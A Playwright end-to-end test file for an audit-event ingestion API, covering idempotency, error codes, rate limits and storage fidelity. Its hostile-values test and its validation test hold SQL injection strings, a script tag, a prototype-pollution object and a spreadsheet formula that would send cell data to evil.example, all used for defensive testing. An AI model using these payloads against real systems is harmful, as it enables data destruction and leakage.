import { request as playwrightRequest } from '@playwright/test';
import { eq, sql } from 'drizzle-orm';
import { sources } from '@/db/schema';
import { verifyDatabase } from '@/lib/audit/verify';
import { createApiKey, createSource, revokeApiKey } from '@/lib/ingest/sources';
import { e2eDb, expect, test } from '../fixtures';

const BASE = `http://127.0.0.1:${process.env.E2E_PORT ?? 3100}`;
const SETUP = {
  actor: { id: 'system:e2e', name: 'e2e setup', email: null, type: 'system' as const },
  context: { ip: null, userAgent: null, requestId: null },
  sessionId: null,
};

async function newSource() {
  const name = `e2e-${Date.now()}-${Math.random().toString(36).slice(2, 8)}`;
  return e2eDb().transaction(async (tx) => {
    const source = await createSource(tx, SETUP, { name, description: 'e2e' });
    const key = await createApiKey(tx, SETUP, { sourceId: source.id, label: 'e2e' });
    return { ...source, key: key.key, keyId: key.id };
  });
}

function event(id: string, extra: Record<string, unknown> = {}) {
  return {
    id,
    occurred_at: '2026-11-20T14:03:12.345+01:00',
    action: 'candidate.update',
    actor: {
      id: 'u_42',
      name: 'Dana Reyes',
      email: 'dana@example.com',
      ip: '203.0.113.7',
      time_zone: 'Europe/Berlin',
    },
    target: { type: 'candidate', id: 'c_981', label: 'Jane Doe' },
    changes: [{ field: 'stage', old: 'interview', new: 'offer' }],
    ...extra,
  };
}

async function storedCount(streamId: string) {
  const [row] = await e2eDb().execute<{ n: number }>(
    sql`select count(*)::int as n from audit_events where stream_id = ${streamId}::uuid`,
  );
  return row!.n;
}

test.describe('POST /api/v1/events over real HTTP', () => {
  test('accepts a batch, is queryable at once, and a retry stores nothing twice', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    const events = Array.from({ length: 50 }, (_, i) => event(`evt-${i}`));
    const first = await api.post('/api/v1/events', { data: { events } });
    expect(first.status()).toBe(200);
    expect(await first.json()).toEqual({ accepted: 50, duplicates: 0 });
    expect(await storedCount(source.streamId)).toBe(50);
    // Concurrent and sequential retries of the same batch.
    const retries = await Promise.all(
      [1, 2, 3].map(() => api.post('/api/v1/events', { data: { events } })),
    );
    for (const r of retries) expect(await r.json()).toEqual({ accepted: 0, duplicates: 50 });
    expect(await storedCount(source.streamId)).toBe(50);
    await api.dispose();
  });

  test('NDJSON bodies are accepted', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({ baseURL: BASE });
    const response = await api.post('/api/v1/events', {
      headers: { Authorization: `Bearer ${source.key}`, 'Content-Type': 'application/x-ndjson' },
      data: [event('a'), event('b')].map((e) => JSON.stringify(e)).join('\n') + '\n',
    });
    expect(response.status()).toBe(200);
    expect(await response.json()).toEqual({ accepted: 2, duplicates: 0 });
    await api.dispose();
  });

  test('every kind of bad request gets its status and message, and stores nothing', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({ baseURL: BASE });
    const auth = { Authorization: `Bearer ${source.key}` };
    const cases: {
      name: string;
      status: number;
      headers?: Record<string, string>;
      data: unknown;
      message: RegExp;
    }[] = [
      {
        name: 'no key',
        status: 401,
        headers: {},
        data: { events: [event('x')] },
        message: /API key/,
      },
      {
        name: 'wrong key',
        status: 401,
        headers: { Authorization: 'Bearer wck_not-a-real-key' },
        data: { events: [event('x')] },
        message: /API key/,
      },
      {
        name: 'not JSON',
        status: 400,
        headers: { ...auth, 'Content-Type': 'application/json' },
        data: Buffer.from('{"events": ['),
        message: /not valid JSON/,
      },
      {
        name: 'no events key',
        status: 400,
        data: { items: [] },
        message: /\{"events": \[\.\.\.\]\}/,
      },
      { name: 'empty batch', status: 400, data: { events: [] }, message: /no events/ },
      {
        name: 'over 1,000 events',
        status: 413,
        data: { events: Array.from({ length: 1001 }, (_, i) => event(`big-${i}`)) },
        message: /at most 1000 events/,
      },
      {
        name: 'wrong content type',
        status: 415,
        headers: { ...auth, 'Content-Type': 'text/csv' },
        data: 'a,b',
        message: /Content-Type/,
      },
    ];
    for (const c of cases) {
      const response = await api.post('/api/v1/events', {
        headers: c.headers ?? auth,
        data: c.data,
      });
      expect(response.status(), c.name).toBe(c.status);
      expect((await response.json()).error, c.name).toMatch(c.message);
    }
    expect(await storedCount(source.streamId)).toBe(0);
    await api.dispose();
  });

  test('one bad event in a batch: 422 with one entry per problem (index, field, message), nothing stored', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    const response = await api.post('/api/v1/events', {
      data: {
        events: [
          event('good-1'),
          event('bad-date', { occurred_at: '2026-02-30T00:00:00Z' }),
          event('no-offset', { occurred_at: '2026-01-01T00:00:00' }),
          event('bad-action', { action: "'; DROP TABLE audit_events;--" }),
          event('bad-zone', { actor: { time_zone: 'Mars/Olympus' } }),
          event('unknown-field', { passwd: 'x' }),
          event('nul', { reason: 'a\u0000b' }),
        ],
      },
    });
    expect(response.status()).toBe(422);
    const body = await response.json();
    expect(body.error).toBe('6 of 7 events are invalid; nothing was stored');
    expect(body.errors).toEqual(
      expect.arrayContaining([
        { index: 1, field: 'occurred_at', message: 'is not a real date and time' },
        expect.objectContaining({ index: 2, field: 'occurred_at' }),
        expect.objectContaining({ index: 3, field: 'action' }),
        expect.objectContaining({ index: 4, field: 'actor.time_zone' }),
        { index: 5, field: 'passwd', message: 'is not a known field' },
        expect.objectContaining({ index: 6, field: 'reason' }),
      ]),
    );
    expect(await storedCount(source.streamId)).toBe(0);
    await api.dispose();
  });

  test('the same id with a different body is a conflict: 409, nothing stored', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    expect((await api.post('/api/v1/events', { data: { events: [event('same')] } })).status()).toBe(
      200,
    );
    const response = await api.post('/api/v1/events', {
      data: { events: [event('new-one'), event('same', { reason: 'changed' })] },
    });
    expect(response.status()).toBe(409);
    expect((await response.json()).conflicts).toEqual([
      { index: 1, id: 'same', reason: 'this id was already stored with a different body' },
    ]);
    expect(await storedCount(source.streamId)).toBe(1);
    await api.dispose();
  });

  test('a body over the limit gets 413 (just over, and 100 MB)', async () => {
    const source = await newSource();
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    for (const size of [10 * 1024 * 1024 + 1, 100 * 1024 * 1024]) {
      const response = await api.post('/api/v1/events', {
        headers: { 'Content-Type': 'application/json' },
        data: Buffer.alloc(size, 'a'),
      });
      expect(response.status()).toBe(413);
    }
    expect(await storedCount(source.streamId)).toBe(0);
    await api.dispose();
  });

  test('a revoked key is refused with 401', async () => {
    const source = await newSource();
    await e2eDb().transaction((tx) => revokeApiKey(tx, SETUP, { keyId: source.keyId }));
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    expect((await api.post('/api/v1/events', { data: { events: [event('x')] } })).status()).toBe(
      401,
    );
    await api.dispose();
  });

  test('a source over its rate gets 429 with Retry-After', async () => {
    const source = await newSource();
    await e2eDb().update(sources).set({ rateLimitPerSecond: 10 }).where(eq(sources.id, source.id));
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    const first = await api.post('/api/v1/events', {
      data: { events: Array.from({ length: 20 }, (_, i) => event(`r-${i}`)) },
    });
    expect(first.status()).toBe(200);
    const second = await api.post('/api/v1/events', {
      data: { events: Array.from({ length: 20 }, (_, i) => event(`s-${i}`)) },
    });
    expect(second.status()).toBe(429);
    expect(Number(second.headers()['retry-after'])).toBeGreaterThan(0);
    expect(await storedCount(source.streamId)).toBe(20);
    await api.dispose();
  });

  test('hostile values survive storage byte for byte and the chains still verify', async () => {
    const source = await newSource();
    const hostile = [
      "' OR '1'='1",
      "'; DROP TABLE audit_events;--",
      '<script>window.__pwned=1</script>',
      '=HYPERLINK("http://evil.example/?x="&A1,"x")',
      'line\r\nbreak',
      '\u2028',
      '\u001b[31mred',
      'аdmin',
      '\u202Eevil',
      'é',
      'e\u0301',
      '\u200B',
      '{"__proto__":{"isAdmin":true}}',
    ];
    const api = await playwrightRequest.newContext({
      baseURL: BASE,
      extraHTTPHeaders: { Authorization: `Bearer ${source.key}` },
    });
    const events = hostile.map((value, i) =>
      event(`h-${i}`, {
        actor: { name: value, ip: value },
        target: { type: 'candidate', id: value, label: value },
        changes: [{ field: value, old: value, new: { nested: [value, 9007199254740991] } }],
        metadata: { [value]: value },
      }),
    );
    const response = await api.post('/api/v1/events', { data: { events } });
    expect(response.status()).toBe(200);
    const rows = await e2eDb().$client<
      {
        source_event_id: string;
        actor_name: string;
        target_id: string;
        changes: unknown;
        metadata: unknown;
      }[]
    >`
      select source_event_id, actor_name, target_id, changes, metadata from audit_events where stream_id = ${source.streamId}::uuid order by seq`;
    expect(rows.map((r) => r.actor_name)).toEqual(hostile);
    expect(rows.map((r) => r.target_id)).toEqual(hostile);
    rows.forEach((r, i) => {
      expect(r.changes).toEqual([
        { field: hostile[i], old: hostile[i], new: { nested: [hostile[i], 9007199254740991] } },
      ]);
      expect(r.metadata).toEqual({ [hostile[i]!]: hostile[i] });
    });
    const report = await verifyDatabase(e2eDb().$client);
    expect(report.streams.find((s) => s.id === source.streamId)?.broken).toBeNull();
    await api.dispose();
  });
});
